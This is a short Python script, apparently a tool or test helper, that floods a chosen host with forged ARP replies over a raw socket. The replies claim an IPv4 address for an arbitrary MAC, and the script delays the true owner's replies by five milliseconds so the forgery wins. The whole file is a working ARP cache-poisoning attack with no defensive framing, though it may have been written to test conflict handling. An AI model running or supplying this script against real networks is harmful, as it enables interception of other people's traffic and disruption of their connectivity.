#!/usr/bin/env python3
"""Claims an IPv4 address on a link: arp.py INTERFACE ADDRESS MAC OWNER OWNER_MAC TRUE_MAC

Sends ARP replies that ADDRESS is at MAC to OWNER at OWNER_MAC, a thousand a second, until it is ended. In the place of the
kernel, whose replies would always be first, it answers each request for ADDRESS with TRUE_MAC, but five milliseconds late.
"""
import select, socket, struct, sys, time

interface, address, mac, owner, owner_mac, true_mac = sys.argv[1:]


def link(text):
    return bytes.fromhex(text.replace(":", ""))


def reply(at):
    packet = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + link(at) + socket.inet_aton(address)
    frame = link(owner_mac) + link(at) + b"\x08\x06" + packet + link(owner_mac) + socket.inet_aton(owner)
    return frame + b"\0" * (60 - len(frame))


claim, truth = reply(mac), reply(true_mac)
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
wire.bind((interface, 0x0806))
print("ready", flush=True)
due = []
while True:
    wire.send(claim)
    while due and due[0] <= time.monotonic():
        due.pop(0)
        wire.send(truth)
    if not select.select([wire], [], [], 0.001)[0]:
        continue
    frame, origin = wire.recvfrom(2048)
    if origin[2] != socket.PACKET_OUTGOING and frame[20:22] == b"\0\1" and frame[38:42] == socket.inet_aton(address):
        due.append(time.monotonic() + 0.005)
